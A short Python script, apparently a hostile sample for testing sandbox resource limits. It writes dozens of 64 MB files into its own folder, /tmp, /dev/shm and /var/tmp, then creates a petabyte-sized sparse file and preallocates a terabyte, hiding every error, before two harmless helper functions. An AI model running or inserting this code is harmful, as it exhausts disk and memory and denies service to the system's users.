"""Writes files of 64 MB, 20 at most, to its own folder and elsewhere."""

import os
from pathlib import Path

data = bytes(64 << 20)
for number in range(20):
    for folder in (".", "/tmp", "/dev/shm", "/var/tmp"):
        try:
            Path(f"{folder}/hostile-mark-{number}").write_bytes(data)
        except OSError:
            pass
try:
    with open("sparse", "wb") as file:
        file.truncate(1 << 50)
    os.posix_fallocate(os.open("allocated", os.O_CREAT | os.O_WRONLY), 0, 1 << 40)
except OSError:
    pass


def double(x):
    return 2 * x


def apply(step, numbers):
    return [step(n) for n in numbers]
